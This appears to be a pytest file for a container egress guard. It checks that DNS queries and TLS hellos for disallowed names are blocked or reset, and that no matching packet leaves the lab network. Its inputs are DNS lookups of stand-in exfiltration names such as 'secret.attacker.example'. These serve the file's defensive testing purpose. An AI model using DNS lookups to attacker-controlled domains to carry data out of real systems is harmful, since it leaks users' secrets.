# SPDX-License-Identifier: MIT
"""Refused names at an uplink: its own program answers, with no helper. The frame turns round, NAT leads it back."""
import sys

import pytest

from guard import serving
from lab import topology
from test_uplink import API4, API6, inspecting, lab, machine    # noqa: F401  (fixtures)

OFFLOAD = """
import array, fcntl, socket, struct, sys
value = array.array("B", struct.pack("=II", 0x17, int(sys.argv[2])))        # ETHTOOL_STXCSUM
fcntl.ioctl(socket.socket(), 0x8946, struct.pack("16sP", sys.argv[1].encode(), value.buffer_info()[0]))
"""


@pytest.fixture
def summed(guard):
    """The container's end gets checksums that were computed, and not a promise that the sender's card will do so."""
    for value in "01":
        guard.lab.server.run([sys.executable, "-IS", "-c", OFFLOAD, "box0", value], check=True)
        if value == "0":
            yield


@pytest.mark.parametrize("resolver", [topology.RESOLVER, "fd00:ec2::253"])
def test_forwarded_query_for_another_name_is_answered_at_once(guard, summed, resolver):
    box, wire = guard.lab.box, guard.lab.wire
    guard.load("--uplink", "eth0", dns=("resolver = fd00:ec2::253",))
    mark = wire.mark()
    for name in ("secret.attacker.example", "secrets.attacker.example"):
        for edns in ("+noedns", "+nocookie", "+cookie"):
            r = box.run("dig", "+tries=1", "+time=5", "+notcp", edns, f"@{resolver}", name)
            assert "status: NXDOMAIN" in r.stdout, r.stdout
            assert ("EDE: 15 (Blocked)" in r.stdout) == (edns != "+noedns"), r.stdout
    assert not [f for f in wire.since(mark) if b"secret" in f.payload]


@pytest.mark.parametrize("address", [API4, API6])
def test_forwarded_hello_for_another_name_is_reset(inspecting, summed, address):
    host = f"[{address}]" if ":" in address else address
    r = inspecting.lab.box.curl("https://google.com", "--resolve", f"google.com:443:{host}")
    assert r.returncode == 35 and "reset by peer" in r.stderr, r.stderr


@pytest.mark.parametrize("resolver", [topology.RESOLVER, "fd00:ec2::253"])
def test_forwarded_query_over_tcp_for_another_name_is_reset(guard, summed, resolver):
    guard.load("--uplink", "eth0", dns=("resolver = fd00:ec2::253",))
    r = guard.lab.box.run("dig", "+tries=1", "+time=5", "+tcp", f"@{resolver}", "secret.attacker.example")
    assert "connection reset" in r.stdout, r.stdout


@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
def test_guarded_container_is_answered_in_its_own_namespace(inspecting, transport):
    box, wire = inspecting.lab.box, inspecting.lab.wire
    with serving(inspecting):
        mark = wire.mark()
        r = box.run("dig", "+tries=1", "+time=5", transport, "secret.attacker.example", cgroup=inspecting.cgroup)
        assert "status: NXDOMAIN" in r.stdout and "Blocked" in r.stdout, r.stdout
        assert not [f for f in wire.since(mark) if b"secret" in f.payload]
